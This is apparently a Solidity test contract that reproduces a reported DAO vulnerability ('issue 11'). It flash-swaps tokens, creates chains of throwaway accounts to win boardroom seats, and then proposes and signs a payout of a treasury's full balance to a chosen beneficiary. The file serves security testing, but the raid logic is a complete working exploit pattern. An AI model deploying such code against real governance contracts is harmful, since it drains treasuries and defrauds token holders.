// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

interface IRaidedDao {
    function bindInviter(address inviter) external;
    function joinDirector() external;
    function createSpendProposal(uint256 random, address token, address recipient, uint256 amount, uint256 duration) external;
    function passProposal(uint256 random) external;
}

interface IRaidedStaking {
    function stake(uint256 pexAmount, uint256 random) external returns (uint256 id);
    function unStake(uint256 id) external;
}

interface IFlashPair {
    function token0() external view returns (address);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

/// @title One account of a raider's invitation chains (tests only)
/// @notice Forwards the raider's calls, so the DAO sees a distinct account; reverts bubble up.
contract RaidAccount {
    address private immutable _raider;

    constructor() {
        _raider = msg.sender;
    }

    /// @notice Calls `target` with `data` on the raider's behalf and returns what it returned.
    function exec(address target, bytes calldata data) external returns (bytes memory result) {
        require(msg.sender == _raider, "not the raider");
        bool ok;
        (ok, result) = target.call(data);
        if (!ok) {
            assembly {
                revert(add(result, 32), mload(result))
            }
        }
    }
}

/// @title The boardroom takeover of issue 11 in one transaction (tests only; never deployed by scripts)
/// @notice Flash-swaps PEX from the PEX-ETH pair and, inside the swap callback, for each of
/// `chains` fresh invitation chains of six accounts bound under this contract: stakes the borrowed
/// PEX at the bottom, lets the five accounts above it join the boardroom, unstakes (the principal
/// comes back in the warmup), and moves on to the next chain with the same PEX. Then one seat
/// proposes to pay treasury 1's whole balance of `token` to `beneficiary` and the others sign.
/// Finally it repays the pair. Every DAO call that is refused is recorded, not fatal, so the
/// test sees how far the raid got.
contract BoardroomRaider {
    uint256 private constant CHAIN_LENGTH = 6;

    IRaidedDao private immutable _dao;
    IRaidedStaking private immutable _staking;
    IERC20 private immutable _pex;
    IFlashPair private immutable _pair;

    /// @notice Seats the raid won (successful `joinDirector` calls).
    uint256 public seated;
    /// @notice Successful proposal creations and signatures.
    uint256 public signatures;
    /// @notice Revert data of the first refused DAO call (empty if none was refused).
    bytes public firstRefusal;
    /// @notice Number of refused DAO calls.
    uint256 public refusals;

    constructor(IRaidedDao dao_, IRaidedStaking staking_, IERC20 pex_, IFlashPair pair_) {
        _dao = dao_;
        _staking = staking_;
        _pex = pex_;
        _pair = pair_;
    }

    /// @notice Runs the raid with `borrow` PEX flash-swapped from the pair. This contract must
    /// hold the swap fee in PEX beforehand and be bindable under `inviter`.
    function raid(
        uint256 borrow,
        uint256 chains,
        address inviter,
        address token,
        address treasury,
        address beneficiary
    ) external {
        _dao.bindInviter(inviter);
        bool pexIsToken0 = _pair.token0() == address(_pex);
        bytes memory plan = abi.encode(chains, token, treasury, beneficiary);
        _pair.swap(pexIsToken0 ? borrow : 0, pexIsToken0 ? 0 : borrow, address(this), plan);
    }

    /// @notice The pair's flash-swap callback: the raid itself.
    function uniswapV2Call(address, uint256 amount0, uint256 amount1, bytes calldata plan) external {
        require(msg.sender == address(_pair), "not the pair");
        uint256 borrowed = amount0 + amount1;
        (uint256 chains, address token, address treasury, address beneficiary) = abi.decode(
            plan,
            (uint256, address, address, address)
        );
        RaidAccount[] memory seats = new RaidAccount[](chains * (CHAIN_LENGTH - 1));
        for (uint256 c = 0; c < chains; ++c) {
            RaidAccount[CHAIN_LENGTH] memory chain;
            address up = address(this);
            for (uint256 k = 0; k < CHAIN_LENGTH; ++k) {
                chain[k] = new RaidAccount();
                chain[k].exec(address(_dao), abi.encodeCall(IRaidedDao.bindInviter, (up)));
                up = address(chain[k]);
            }
            RaidAccount bottom = chain[CHAIN_LENGTH - 1];
            require(_pex.transfer(address(bottom), borrowed), "transfer");
            bottom.exec(address(_pex), abi.encodeCall(IERC20.approve, (address(_staking), borrowed)));
            uint256 id = abi.decode(bottom.exec(address(_staking), abi.encodeCall(IRaidedStaking.stake, (borrowed, 0))), (uint256));
            for (uint256 k = 0; k < CHAIN_LENGTH - 1; ++k) {
                seats[c * (CHAIN_LENGTH - 1) + k] = chain[k];
                try chain[k].exec(address(_dao), abi.encodeCall(IRaidedDao.joinDirector, ())) {
                    ++seated;
                } catch (bytes memory reason) {
                    _refused(reason);
                }
            }
            bottom.exec(address(_staking), abi.encodeCall(IRaidedStaking.unStake, (id)));
            bottom.exec(address(_pex), abi.encodeCall(IERC20.transfer, (address(this), borrowed)));
        }

        uint256 random = uint256(keccak256(abi.encode(address(this), block.number)));
        uint256 amount = IERC20(token).balanceOf(treasury);
        bytes memory propose = abi.encodeCall(IRaidedDao.createSpendProposal, (random, token, beneficiary, amount, 1 hours));
        for (uint256 i = 0; i < seats.length; ++i) {
            bytes memory call = i == 0 ? propose : abi.encodeCall(IRaidedDao.passProposal, (random));
            try seats[i].exec(address(_dao), call) {
                ++signatures;
            } catch (bytes memory reason) {
                _refused(reason);
            }
        }

        // Uniswap V2 takes 0.3 %: repay borrowed / 0.997, rounded up.
        uint256 repay = (borrowed * 1000) / 997 + 1;
        require(_pex.transfer(address(_pair), repay), "repay");
    }

    function _refused(bytes memory reason) private {
        if (refusals == 0) firstRefusal = reason;
        ++refusals;
    }
}
